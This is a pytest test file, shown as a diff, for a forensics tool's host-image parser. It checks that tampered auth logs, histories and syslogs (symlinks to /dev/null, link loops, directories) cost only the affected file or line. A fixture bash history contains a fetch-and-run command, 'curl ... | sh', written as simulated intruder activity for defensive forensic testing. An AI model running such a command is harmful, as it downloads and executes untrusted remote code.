@@ -1,0 +1,384 @@
+"""One bad link, folder or line in an artifact location costs that one file or line.
+
+An intruder who replaces `/var/log/auth.log` with a link to `/dev/null` must not hide
+`auth.log.1` and `auth.log.2`; a history linked away must not hide another user's; an
+sshd line dissect's field parser chokes on must not stop the auth log. Each case runs in
+an ext4 image (mkfs.ext4 -d) and in a tar export, the two shapes host evidence takes.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import shutil
+import subprocess
+import tarfile
+import uuid
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from cloudir.analyze.parsers import ErrorLog, ParseOptions
+from cloudir.analyze.parsers.host import parse
+from tests.conftest import cloudir, query
+
+PASSWD = (
+    "root:x:0:0:root:/root:/bin/bash\n"
+    "alice:x:1000:1000::/home/alice:/bin/bash\n"
+    "bob:x:1001:1001::/home/bob:/bin/bash\n"
+    "carol:x:1002:1002::/home/carol:/bin/bash\n"
+)
+FINGERPRINTLESS = (
+    "Nov 26 05:00:00 h1 sshd[123]: Accepted publickey for alice from 203.0.113.5 port 50022 ssh2"
+)
+
+
+def failed(day: int, n: int, user: str = "root") -> str:
+    return (
+        f"Nov {day} 06:{n:02d}:00 h1 sshd[9{n}]: Failed password for {user} "
+        f"from 198.51.100.{n} port 22 ssh2"
+    )
+
+
+ROTATED_1 = [failed(27, n) for n in range(6)]  # auth.log.1: 6 lines
+ROTATED_2 = [FINGERPRINTLESS] + [failed(26, n, "bob") for n in range(4)]  # auth.log.2: 5 lines
+BOB_HISTORY = ["id", "curl -s http://203.0.113.9/x | sh", "rm -f /tmp/x"]
+
+
+def base_tree(root: Path) -> None:
+    """What dissect needs to see a Debian host with three users."""
+    for folder in ("etc", "var/log", "run", "sys", "tmp", "root", "home/alice", "home/bob",
+                   "home/carol"):  # fmt: skip
+        (root / folder).mkdir(parents=True, exist_ok=True)
+    (root / "etc/os-release").write_text("ID=debian\nVERSION_ID=12\n")
+    (root / "etc/hostname").write_text("h1\n")
+    (root / "etc/passwd").write_text(PASSWD)
+    (root / "var/log/auth.log.1").write_text("\n".join(ROTATED_1) + "\n")
+    (root / "var/log/auth.log.2").write_text("\n".join(ROTATED_2) + "\n")
+    (root / "home/bob/.bash_history").write_text("\n".join(BOB_HISTORY) + "\n")
+
+
+def as_tar(root: Path) -> Path:
+    export = root.parent / "fs.tar"
+    with tarfile.open(export, "w") as tar:
+        tar.add(root, arcname=".")
+    return export
+
+
+def as_ext4(root: Path) -> Path:
+    mkfs = shutil.which("mkfs.ext4") or next(
+        (p for p in ("/usr/sbin/mkfs.ext4", "/sbin/mkfs.ext4") if os.access(p, os.X_OK)), None
+    )
+    if mkfs is None:
+        pytest.skip("mkfs.ext4 (e2fsprogs) not installed; it builds the ext4 test image")
+    image = root.parent / "disk.raw"
+    made = subprocess.run(
+        [mkfs, "-q", "-F", "-d", str(root), str(image), "16M"],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    if made.returncode != 0 and "-d" in made.stderr:
+        pytest.skip(f"this mkfs.ext4 cannot populate an image (-d): {made.stderr.strip()}")
+    assert made.returncode == 0, made.stderr
+    return image
+
+
+PACKERS: dict[str, Callable[[Path], Path]] = {"tar": as_tar, "ext4": as_ext4}
+
+
+def read(evidence: Path) -> tuple[list[dict[str, Any]], list[str]]:
+    errors = ErrorLog("item", evidence.name)
+    rows = [
+        row
+        for batch in parse(evidence, "item", errors, ParseOptions(fs_timeline=False))
+        for row in batch.to_pylist()
+    ]
+    reasons = [entry["reason"] for entry in errors.entries]
+    for reason in reasons:
+        assert "\n" not in reason and "Traceback" not in reason, reason
+    return rows, reasons
+
+
+def auth_messages(rows: list[dict[str, Any]]) -> list[str]:
+    return sorted(json.loads(r["raw"])["message"] for r in rows if r["artifact"] == "linux:auth")
+
+
+def expected_auth(*files: list[str]) -> list[str]:
+    """The message dissect keeps of a line: what follows `program[pid]: `."""
+    return sorted(line.split("]: ", 1)[1] for lines in files for line in lines)
+
+
+def naming(reasons: list[str], path: str) -> list[str]:
+    return [r for r in reasons if f" {path} not read: " in r]
+
+
+@pytest.fixture(params=sorted(PACKERS))
+def packed(request: pytest.FixtureRequest, tmp_path: Path) -> Callable[[Callable], Path]:
+    """Builds the tree, lets the test spoil it, packs it as a tar export or ext4 image."""
+
+    def build(spoil: Callable[[Path], None]) -> Path:
+        root = tmp_path / "root"
+        base_tree(root)
+        spoil(root)
+        return PACKERS[request.param](root)
+
+    return build
+
+
+# -- auth.log and its rotations -------------------------------------------------------------
+def test_auth_log_linked_to_dev_null_leaves_the_rotated_logs_read(packed: Callable) -> None:
+    evidence = packed(lambda root: os.symlink("/dev/null", root / "var/log/auth.log"))
+    rows, reasons = read(evidence)
+    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
+    assert len(auth_messages(rows)) == 11
+    [why] = naming(reasons, "/var/log/auth.log")
+    assert why == (
+        "authlog: /var/log/auth.log not read: a link to /dev/null, which does not exist in "
+        "the image; the other authlog files are read"
+    )
+    assert [r for r in reasons if r.startswith("authlog")] == [why]
+
+
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (lambda log: os.symlink("/nowhere/auth", log),
+         "a link to /nowhere/auth, which does not exist in the image"),
+        (lambda log: os.symlink("/var/log/sub", log),
+         "a link to /var/log/sub, a directory in the image, not a file"),
+        (lambda log: os.symlink("auth.log", log), "a link loop (-> auth.log)"),
+        (lambda log: log.mkdir(), "a directory, not a file"),
+    ],
+    ids=["missing", "directory-link", "loop", "directory"],
+)  # fmt: skip
+def test_each_bad_auth_log_costs_that_file(
+    packed: Callable, make: Callable[[Path], None], reason: str
+) -> None:
+    def spoil(root: Path) -> None:
+        (root / "var/log/sub").mkdir()
+        make(root / "var/log/auth.log")
+
+    rows, reasons = read(packed(spoil))
+    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
+    [why] = naming(reasons, "/var/log/auth.log")
+    assert f"not read: {reason};" in why
+
+
+def test_a_loop_of_two_links_and_a_folder_named_auth_log_1(packed: Callable) -> None:
+    def spoil(root: Path) -> None:
+        log = root / "var/log"
+        (log / "auth.log.1").unlink()
+        (log / "auth.log.1").mkdir()
+        os.symlink("auth.log.4", log / "auth.log.3")
+        os.symlink("auth.log.3", log / "auth.log.4")
+        (log / "auth.log").write_text(failed(28, 1) + "\n")
+
+    rows, reasons = read(packed(spoil))
+    assert auth_messages(rows) == expected_auth([failed(28, 1)], ROTATED_2)
+    assert "a directory, not a file" in naming(reasons, "/var/log/auth.log.1")[0]
+    assert "a link loop (-> auth.log.4)" in naming(reasons, "/var/log/auth.log.3")[0]
+    assert "a link loop (-> auth.log.3)" in naming(reasons, "/var/log/auth.log.4")[0]
+
+
+def test_a_link_never_leaves_the_image_for_the_examiners_host(
+    packed: Callable, tmp_path: Path
+) -> None:
+    """The link names a real log on the examiner's machine: it is read as a path in the
+    image, where it does not exist."""
+    outside = tmp_path / f"host-only-{uuid.uuid4().hex}"
+    outside.mkdir()
+    (outside / "auth.log").write_text(failed(29, 7, "examiner") + "\n")
+    evidence = packed(lambda root: os.symlink(outside / "auth.log", root / "var/log/auth.log"))
+    rows, reasons = read(evidence)
+    assert not [m for m in auth_messages(rows) if "examiner" in m]
+    assert auth_messages(rows) == expected_auth(ROTATED_1, ROTATED_2)
+    [why] = naming(reasons, "/var/log/auth.log")
+    assert "which does not exist in the image" in why
+
+
+# -- one line ---------------------------------------------------------------------------------
+def test_accepted_publickey_without_a_fingerprint_is_a_success_row(packed: Callable) -> None:
+    rows, reasons = read(packed(lambda root: None))
+    assert not [r for r in reasons if r.startswith("authlog")], reasons
+    [login] = [r for r in rows if "Accepted publickey" in r["message"]]
+    assert (login["user"], login["src_ip"], login["outcome"]) == ("alice", "203.0.113.5", "success")
+    assert login["action"] == "sshd:accepted authentication"
+    raw = json.loads(login["raw"])
+    assert (raw["port"], raw["authentication_type"], raw["ssh_protocol"]) == (
+        50022,
+        "publickey",
+        "ssh2",
+    )
+    assert len(auth_messages(rows)) == 11  # the other lines are read too
+
+
+def test_a_line_without_a_timestamp_costs_that_line_and_is_counted(packed: Callable) -> None:
+    def spoil(root: Path) -> None:
+        lines = [ROTATED_1[0], "garbage without a time", ROTATED_1[1], "\x00\x01 binary"]
+        (root / "var/log/auth.log").write_text("\n".join(lines) + "\n")
+
+    rows, reasons = read(packed(spoil))
+    assert auth_messages(rows) == expected_auth(ROTATED_1[:2], ROTATED_1, ROTATED_2)
+    assert (
+        "authlog: /var/log/auth.log: 2 lines not read: no timestamp dissect recognises" in reasons
+    )
+
+
+def test_a_malformed_key_fingerprint_keeps_the_lines_other_fields(packed: Callable) -> None:
+    odd = (
+        "Nov 28 07:00:00 h1 sshd[5]: Accepted publickey for eve from 192.0.2.1 port 1 "
+        "ssh2: RSA nokey"
+    )
+    rows, reasons = read(packed(lambda root: (root / "var/log/auth.log").write_text(odd + "\n")))
+    [row] = [r for r in rows if "for eve" in r["message"]]
+    assert (row["user"], row["src_ip"], row["outcome"]) == ("eve", "192.0.2.1", "success")
+    assert not [r for r in reasons if r.startswith("authlog")], reasons
+    assert len(auth_messages(rows)) == 12
+
+
+def test_a_field_parser_that_fails_keeps_the_line_as_text_and_says_so(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """No dissect field parser but sshd's fails on a line today; one that does (a later
+    dissect) must cost the fields of that line, never the line or the file."""
+    from dissect.target.plugins.os.unix.log.auth import SudoService
+
+    def broken(cls: type, message: str) -> dict[str, str]:
+        raise IndexError("simulated parser failure")
+
+    monkeypatch.setattr(SudoService, "parse", classmethod(broken))
+    root = tmp_path / "root"
+    base_tree(root)
+    sudo = "Nov 28 07:00:00 h1 sudo[5]: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id"
+    (root / "var/log/auth.log").write_text(sudo + "\n")
+    rows, reasons = read(as_tar(root))
+    [row] = [r for r in rows if "COMMAND=/bin/id" in r["message"]]
+    assert row["timestamp"] is not None and row["action"] == "sudo"
+    [why] = [r for r in reasons if r.startswith("authlog: /var/log/auth.log: sudo fields")]
+    assert "IndexError: simulated parser failure" in why and "kept as text" in why
+    assert len(auth_messages(rows)) == 12
+
+
+# -- shell histories and syslog ---------------------------------------------------------------
+def history_of(rows: list[dict[str, Any]], user: str) -> list[str]:
+    return [
+        json.loads(r["raw"])["CommandLine"]
+        for r in rows
+        if r["artifact"] == "linux:bash_history" and r["user"] == user
+    ]
+
+
+def test_a_history_linked_away_does_not_hide_another_users(packed: Callable) -> None:
+    def spoil(root: Path) -> None:
+        os.symlink("/dev/null", root / "home/alice/.bash_history")
+        os.symlink(".bash_history", root / "home/carol/.bash_history")  # a loop to itself
+
+    rows, reasons = read(packed(spoil))
+    assert sorted(history_of(rows, "bob")) == sorted(BOB_HISTORY)
+    assert history_of(rows, "alice") == history_of(rows, "carol") == []
+    assert "a link to /dev/null" in naming(reasons, "/home/alice/.bash_history")[0]
+    assert "a link loop" in naming(reasons, "/home/carol/.bash_history")[0]
+
+
+def test_a_syslog_link_loop_leaves_the_rotated_syslog_read(packed: Callable) -> None:
+    line = "Nov 27 05:00:00 h1 cron[1]: (deploy) CMD (/tmp/x)"
+
+    def spoil(root: Path) -> None:
+        os.symlink("syslog", root / "var/log/syslog")
+        (root / "var/log/syslog.1").write_text(line + "\nnot syslog\n")
+
+    rows, reasons = read(packed(spoil))
+    [cron] = [r for r in rows if r["artifact"] == "linux:cron"]
+    assert cron["user"] == "deploy"
+    assert "a link loop" in naming(reasons, "/var/log/syslog")[0]
+    assert "syslog: /var/log/syslog.1: 1 lines not read: no timestamp dissect recognises" in reasons
+
+
+# -- through the command line: errors.jsonl --------------------------------------------------
+def test_timeline_names_the_bad_link_in_errors_jsonl(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    base_tree(root)
+    os.symlink("/dev/null", root / "var/log/auth.log")
+    image = as_ext4(root)
+    case = tmp_path / "case"
+    made = cloudir("capture", "files", "--case", str(case), str(image), "--json")
+    assert made.code == 0, made.stderr
+    result = cloudir("timeline", "--case", str(case), "--no-fs-timeline")
+    assert result.code == 0, result.stderr
+    [count] = query(case, "SELECT count(*) AS n FROM timeline WHERE artifact = 'linux:auth'")
+    assert count["n"] == 11
+    entries = [json.loads(x) for x in (case / "timeline/errors.jsonl").read_text().splitlines()]
+    [entry] = [e for e in entries if "/var/log/auth.log not read" in e["reason"]]
+    assert entry["path"].endswith("disk.raw")
+
+
+# -- property: any mix of good and bad log files in a tar export -----------------------------
+KINDS = ("real", "dev-null", "missing", "directory", "loop")
+LOG_NAMES = ("auth.log", "auth.log.1", "auth.log.2", "auth.log.3", "secure")
+
+
+def member(tar: tarfile.TarFile, name: str, kind: str, lines: list[str]) -> None:
+    info = tarfile.TarInfo(f"./var/log/{name}")
+    info.mtime = 1_795_000_000
+    if kind == "real":
+        data = "".join(f"{line}\n" for line in lines).encode()
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+        return
+    info.type = tarfile.DIRTYPE if kind == "directory" else tarfile.SYMTYPE
+    info.mode = 0o755 if kind == "directory" else 0o777
+    info.linkname = {"dev-null": "/dev/null", "missing": "/gone/away", "loop": name}.get(kind, "")
+    tar.addfile(info)
+
+
+def skeleton(tar: tarfile.TarFile) -> None:
+    for folder in ("etc", "var", "var/log", "run", "sys", "tmp", "root"):
+        info = tarfile.TarInfo(f"./{folder}")
+        info.type, info.mode = tarfile.DIRTYPE, 0o755
+        tar.addfile(info)
+    for name, text in (("etc/os-release", "ID=debian\n"), ("etc/hostname", "h1\n")):
+        data = text.encode()
+        info = tarfile.TarInfo(f"./{name}")
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+
+
+auth_line = st.builds(
+    lambda n, user, good: failed(20 + n % 8, n % 60, user) if good else f"noise {n} {user}",
+    st.integers(0, 10_000),
+    st.sampled_from(["root", "admin", "alice"]),
+    st.booleans(),
+)
+log_file = st.tuples(st.sampled_from(KINDS), st.lists(auth_line, min_size=1, max_size=5))
+
+
+@settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(files=st.dictionaries(st.sampled_from(LOG_NAMES), log_file, min_size=1, max_size=5))
+def test_any_mix_of_log_files_costs_only_the_bad_ones(
+    tmp_path: Path, files: dict[str, tuple[str, list[str]]]
+) -> None:
+    export = tmp_path / f"{uuid.uuid4().hex}.tar"
+    with tarfile.open(export, "w") as tar:
+        skeleton(tar)
+        for name, (kind, lines) in sorted(files.items()):
+            member(tar, name, kind, lines)
+    rows, reasons = read(export)
+
+    real = {name: lines for name, (kind, lines) in files.items() if kind == "real"}
+    good = [line for lines in real.values() for line in lines if not line.startswith("noise")]
+    assert auth_messages(rows) == expected_auth(good)
+    for name, lines in real.items():  # every unreadable line is counted against its file
+        noise = sum(1 for line in lines if line.startswith("noise"))
+        counted = [r for r in reasons if r.startswith(f"authlog: /var/log/{name}: {noise} lines")]
+        assert len(counted) == (1 if noise else 0), (name, reasons)
+    for name, (kind, _) in files.items():
+        assert len(naming(reasons, f"/var/log/{name}")) == (0 if kind == "real" else 1), name
+    export.unlink()
